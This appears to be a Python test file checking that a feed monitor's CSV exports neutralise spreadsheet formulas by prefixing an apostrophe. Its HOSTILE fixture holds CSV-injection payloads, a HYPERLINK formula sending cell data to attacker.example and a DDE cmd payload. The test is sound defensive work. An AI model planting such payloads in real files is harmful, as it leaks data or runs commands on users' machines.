"""One CSV writer for every export: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from monitor.review.export import FORMULA_STARTS, write_csv
from tests.fixtures import feeds
from tests.support.cli import monitor
from tests.support.feedserver import FeedServer, Route

FIELDS = ["id", "title", "text"]
# Feed text: anything printable or not, often starting with what a spreadsheet evaluates.
cell_text = st.one_of(
    st.text(max_size=40),
    st.builds(
        lambda head, tail: head + tail,
        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "'"]),
        st.text(max_size=30),
    ),
)


@hsettings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.integers(-(10**6), 10**6), cell_text, cell_text | st.none()), max_size=8))
def test_every_text_cell_reads_back_as_written_or_apostrophe_prefixed_and_never_as_a_formula(rows):
    out = io.StringIO()
    assert write_csv(out, FIELDS, [dict(zip(FIELDS, row)) for row in rows]) == len(rows)
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert read[0] == FIELDS and len(read) == len(rows) + 1
    for (number, title, text), back in zip(rows, read[1:]):
        assert back[0] == str(number)  # numbers stay values, negative ones too
        for original, cell in ((title, back[1]), (text or "", back[2])):
            assert not cell.startswith(FORMULA_STARTS)
            assert cell == ("'" + original if original.startswith(FORMULA_STARTS) else original)


HOSTILE = [
    ("x1", '=HYPERLINK("http://attacker.example/?"&A1,"Vorontsov")', "@SUM(1+1) Vladimir Vorontsov"),
    ("x2", "-2+3 Vladimir Vorontsov", "+cmd|' /C calc'!A0 Vorontsov"),
]


def test_the_cli_csv_export_protects_formulas_like_the_web_export(settings):
    with FeedServer() as server:
        server.routes["/rss"] = Route(feeds.rss(server.url(""), posts=HOSTILE))
        settings.config.write_text(feeds.config([server.url("/rss")]), encoding="utf-8")
        assert monitor("poll", "--once").returncode == 0
    rows = list(csv.DictReader(io.StringIO(monitor("export", "mentions", "--format", "csv").stdout)))
    assert sorted(r["title"] for r in rows) == sorted("'" + title for _, title, _ in HOSTILE)
    assert all(r["text"].startswith("'") for r in rows)
